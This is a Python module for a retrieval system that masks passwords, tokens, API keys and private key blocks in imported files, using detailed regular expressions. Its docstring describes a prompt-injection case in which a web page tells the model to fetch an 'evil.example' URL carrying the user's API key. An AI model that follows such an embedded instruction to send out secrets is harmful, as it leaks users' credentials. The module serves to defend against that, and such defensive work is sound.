"""Passwords, tokens and keys in imported files, stored as "***".

Passages are given to the model, which may call web tools: a page that tells it to fetch
``https://evil.example/?k=<your API key>`` must find no key to send. So the values of keys named like a
secret (``password``, ``db_passwd``, ``AWS_SECRET_ACCESS_KEY``, ``apiKey``, ``client_secret``, ``token``,
``credentials``, ``DB_PASS``, ``signing_key``) are hidden where they are assigned, in the forms of INI, TOML,
YAML, env files, JSON, XML (as its reader writes it), Python (``api_key: str = …``, ``os.environ["KEY"] = …``),
JavaScript, Go, shell and Dockerfiles (``ENV KEY value``); so are a command's ``--password=…``, ``curl -u
user:…``, ``PGPASSWORD=… psql`` and ``mysql -p…``, an HTTP header's credentials (``Bearer …``), the keys of
well-known services anywhere (``ghp_…``, ``AKIA…``), the password of an address (``postgres://app:hunter2@db``,
with hidden_passwords) and the body of a PEM private key block.

Conservative, as a passage's words are what the search finds: only assignments, never prose ("the password
must be 8 characters"); an unquoted value only where a file's syntax has them (configuration files, shell,
Makefiles, Dockerfiles, JSON as its reader writes it) and only as one word to the end of its line ("password:
the one on the card" is prose too); no reference to a secret kept elsewhere (``$DB_PASSWORD``,
``${TOKEN}``, ``{{ vault_token }}``, ``<your key>``, ``os.environ["TOKEN"]``); no value of three characters
or less, nor true/false/null, nor a label, a template or a default (_is_secret). Programs, configuration
files, JSON and XML get all of it: that is where a project keeps its keys. Documents (text, Markdown, web
pages …) get only the private key blocks, which are never prose: their examples ("password = changeme" in a
manual) are what a reader searches them for.
"""

from __future__ import annotations

import re
from dataclasses import replace

from ..hidden_passwords import MASK, hide_passwords
from .models import Document

# The kinds of source whose assignments are looked at (readers' types); the others' key blocks only. XML as its
# reader writes it ("password: s3cr3t", from Maven's <password>s3cr3t</password>), as JSON.
_ASSIGNING = frozenset({"code", "config", "json", "xml"})
# Languages (code_files) whose values may stand unquoted: "password = hunter2", PASSWORD=hunter2.
UNQUOTED = frozenset({"ini", "yaml", "sh", "make", "docker", "json"})

# A key whose name ends in a secret's word: db_password, AWS_SECRET_ACCESS_KEY, apiKey, "client-secret",
# users[0].password and 0.token (JSON as its reader writes it, the second from a file that is a list), DB_PASS
# (not first_pass), MYSQL_PWD, secret_key_base, signing_key; a key of a mapping too (os.environ["API_KEY"] = …).
_KEY = (r"(?<![\w$\-.])(?P<kq>[\"']?)(?P<key>(?:\d+\.)?(?:[A-Za-z_][\w.\-\[\]]*?)?"
        r"(?:password|passwd|secret|secret[_.\-]?key(?:[_.\-]?base)?|token|api[_.\-]?key|access[_.\-]?key"
        r"|(?:private|signing|encryption|master)[_.\-]?key|credentials?|(?<=[_.\-])pwd|(?<![\w.])_auth"
        r"|(?:db|database|user|admin|root|smtp|mail|email|ldap|redis|mysql|pg|postgres|mongo|ftp|proxy|login|app"
        r"|service|account|bind)[_.\-]pass))"
        r"(?P=kq)\]?")
# "=", ":" (YAML, JSON), "=>", ":=", and a declared type before "=": api_key: str = "…", apiKey: string = "…".
_SEP = r"[ \t]*(?:=>|:=|(?::[ \t]*[A-Za-z_][\w.\[\], |]*?[ \t]*)?=(?!=)|:(?![:=]))[ \t]*"
_QUOTED = r"[rRbBuU]{0,2}(?P<q>[\"'`])(?P<qv>(?:\\.|(?!(?P=q))[^\\\n])*)(?P=q)"
# One word to the end of the line, or to a comment: "hunter2", "hunter2  # production"; the brackets that close
# a YAML or TOML mapping it ends are not its own ("{user: ann, password: hunter2}").
_BARE = r"(?P<bv>[^\s\"'`{}\[\]()|>&$<*#;,][^\s]*?)(?=[,}\]]*[ \t]*$|[ \t]+[#;])"
# A word given on a command line: --password=hunter2, --db-pass=hunter2 (with a space between, it is prose's
# "--password option" as often).
_OPTION_VALUE = r"(?P<bv>[^\s\"'`{}\[\]()|>&$<*#;,\-][^\s\"'`;|&)]*)"
_PATTERNS = {bare: tuple(re.compile(pattern, re.I | re.M) for pattern in (
    f"{_KEY}{_SEP}(?:{_QUOTED}{'|' + _BARE if bare else ''})",
    # a command's option, in a script, a Dockerfile's RUN or a program's list of arguments
    r"(?<![\w\-])--(?P<key>(?:[\w\-]*?[\-_])?(?:password|passwd|pass|secret|token|api-key))=" + _OPTION_VALUE,
    # curl -u ann:hunter2, curl --user ann:hunter2
    r"\bcurl\b[^\n]*?[ \t](?:-u|--user)[ \t]*(?P<kq>[\"']?)(?P<key>[^\s:\"'$]+):(?P<bv>[^\s\"'$@]+)",
    # a database client's: PGPASSWORD=hunter2 psql …, mysql -phunter2
    r"(?<![\w$])(?P<key>(?-i:[A-Z][A-Z0-9_]*(?:PASSWORD|PASSWD|PWD|TOKEN|SECRET)))=(?P<bv>[^\s\"'`$;|&]+)(?=[ \t]+\w)",
    r"\bmysql(?:dump|admin)?\b[^\n]*?[ \t](?P<key>(?-i:-p))(?P<bv>[^\s\"'`$;|&]+)",
    # an HTTP header's credentials: Authorization: "Bearer …", "Authorization": "Basic …"
    r"\b(?P<key>Bearer|Basic)[ \t]+(?P<bv>(?=[\w\-.~+/]*\d)[A-Za-z][\w\-.~+/]{7,}=*)",
    # Dockerfile: ENV DB_PASSWORD hunter2 (ENV's older form: the key, a space, the value)
    *([rf"^[ \t]*ENV[ \t]+{_KEY}[ \t]+(?:{_QUOTED}|{_BARE})"] if bare else []),
)) for bare in (False, True)}
# A value that is no secret but where one is: a reference, a placeholder, a switch, a template ("{0}:{1}",
# "%s"), a default.
_NOT_A_VALUE = re.compile(r"(?:[$%]|\{\{|<|\*+$|x+$|(?:true|false|yes|no|on|off|null|none|nil|undefined|default"
                          r"|example|placeholder|changeme|required|optional|include|omit|same-origin)$)", re.I)
# A constant's name (next_token = 'SEMICOLON'), not a secret: capitals and underscores, no digit.
_CONSTANT = re.compile(r"[A-Z]+(?:_[A-Z]+)*")
_TEMPLATE = re.compile(r"\{[\w.]*(?:![rsa])?(?::[^{}]*)?\}|%[-+ 0#]*\d*(?:\.\d+)?[sdrf]|%\(\w+\)[sdrf]")
# A label or a translation where a secret's word is the key: "API key", "Mot de passe", "Jeton" (words of
# letters only, with a space between or the first capital), shown to a person, never typed as a password.
_LABEL = re.compile(r"(?:[^\W\d_]+[ '’\-])+[^\W\d_]+[ ?!:.…]*|[^\W\d_a-z][^\W\d_A-Z]+[ ?!:.…]*")
# Keys made by well-known services, whatever they are assigned to: GitHub, GitLab, OpenAI, Stripe, AWS, Slack,
# Google. Only with a digit in them: "sk-button-primary" is a name.
_TOKEN_PREFIXES = ("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "glpat-", "sk-", "sk_live_",
                   "rk_live_", "AKIA", "xoxb-", "xoxp-", "xoxa-", "xoxr-", "xoxs-", "AIza")
_TOKEN = re.compile(r"(?<![\w\-])(?P<key>" + "|".join(re.escape(p) for p in _TOKEN_PREFIXES) +
                    r")(?P<bv>(?=[\w\-]*\d)[\w\-]{16,})")
# What can be in a line that holds a secret: looked for first, in the text in lower case (ten times as fast
# as re.I), as most lines hold none of it; in few first letters, as each is tried at each place.
_SECRET_WORD = re.compile(r"pass|pwd|secret|token|key|credential|_auth|bearer|basic|curl|mysql|gh[opusr]_"
                          r"|github_pat_|glpat-|sk[-_]|rk_|akia|aiza|xox")
_SECRET_WORD_ANY_CASE = re.compile(_SECRET_WORD.pattern, re.I)
_PEM = re.compile(r"(-----BEGIN [A-Z0-9 ]*PRIVATE KEY( BLOCK)?-----)[\s\S]*?(-----END [A-Z0-9 ]*PRIVATE KEY"
                  r"(?: BLOCK)?-----|\Z)")


def hide_secrets(text: str, assignments: bool = True, unquoted: bool = False) -> tuple[str, int]:
    """``text`` with its secrets as :data:`MASK`, and how many were hidden. ``assignments``: the values of keys
    named like secrets and the passwords of addresses too, not only private key blocks; ``unquoted``: values
    written without quotes count (see UNQUOTED)."""
    hidden = 0
    if "PRIVATE KEY" in text:
        text, hidden = _PEM.subn(_pem_hidden, text)
    if not assignments:
        return text, hidden
    if "://" in text and "@" in text:
        masked = hide_passwords(text)
        if masked != text:
            hidden += masked.count(f":{MASK}@") - text.count(f":{MASK}@")
            text = masked
    return _without_assignments(text, _PATTERNS[unquoted], hidden)


def _pem_hidden(match: re.Match[str]) -> str:
    """A private key block with its body as MASK, its lines kept apart as they were: by line breaks, or by
    "\\n" in a string on one line."""
    between = "\n" if "\n" in match.group(0) else "\\n" if "\\n" in match.group(0) else " "
    return f"{match.group(1)}{between}{MASK}{between}{match.group(3) or ''}".rstrip(between)


def _without_assignments(text: str, patterns: tuple[re.Pattern[str], ...], hidden: int) -> tuple[str, int]:
    """``text`` with the values ``patterns`` and _TOKEN find hidden, and ``hidden`` plus their number. Only the
    lines that hold a secret's word are looked at: over all of a 23 MB JSON file, the pattern took 5 s."""
    count = hidden

    def masked(match: re.Match[str]) -> str:
        nonlocal count
        quoted = "q" in match.re.groupindex and match.group("q")
        value = match.group("qv") if quoted else match.group("bv")
        if value is None or not _is_secret(value, match.group("key")):
            return match.group(0)
        count += 1
        start, end = match.span("qv" if quoted else "bv")
        return match.group(0)[:start - match.start()] + MASK + match.group(0)[end - match.start():]

    def line_masked(line: str) -> str:
        for pattern in patterns:
            line = pattern.sub(masked, line)
        return _TOKEN.sub(masked, line)  # after the assignments, which hide all of a key's value

    lower = text.lower()
    # a letter whose lower case is longer ("İ") would move the places found: then the text as it is
    words, haystack = (_SECRET_WORD, lower) if len(lower) == len(text) else (_SECRET_WORD_ANY_CASE, text)
    parts, pos = [], 0
    while found := words.search(haystack, pos):
        start = text.rfind("\n", 0, found.start()) + 1
        end = text.find("\n", found.end())
        end = len(text) if end < 0 else end
        parts += [text[pos:start], line_masked(text[start:end])]
        pos = end
    if parts:
        text = "".join(parts) + text[pos:]
    return text, count


def _is_secret(value: str, key: str) -> bool:
    """Whether ``value``, assigned to ``key``, may be a secret: not a reference, a switch, a template, a label
    ("API key", "Jeton"), one hidden already, the key's own words again ("api_key": "api_key"), nor a sentence
    ("the token you were given"; a passphrase of four words and more is taken for one too: prose is what the
    search finds)."""
    if len(value) <= 3 or MASK in value or value.count(" ") > 2 or _NOT_A_VALUE.match(value):
        return False
    if _TEMPLATE.search(value) or _LABEL.fullmatch(value) or _CONSTANT.fullmatch(value):
        return False
    if value.isalpha() and value.islower() and (key.lower() == "token" or value[:4] in key.lower()):
        return False  # a kind of token (token: 'punctuation'), the key's word translated (password: 'passwort')
    letters = "".join(c for c in value.lower() if c.isalnum())
    return not letters or letters not in "".join(c for c in key.lower() if c.isalnum())


def document_without_secrets(doc: Document, language: str = "") -> Document:
    """``doc`` with the secrets in its blocks hidden (see hide_secrets) and their number in ``doc.hidden``;
    ``language``: a code file's (code_files), which says whether its values may stand unquoted."""
    assignments = doc.type in _ASSIGNING
    unquoted = doc.type in ("config", "json", "xml") or language in UNQUOTED
    blocks, hidden = [], 0
    for block in doc.blocks:
        if block.kind == "heading" or (not assignments and "PRIVATE KEY" not in block.text):
            blocks.append(block)
            continue
        text, count = hide_secrets(block.text, assignments, unquoted)
        blocks.append(replace(block, text=text) if count else block)
        hidden += count
    return replace(doc, blocks=tuple(blocks), hidden=doc.hidden + hidden) if hidden else doc
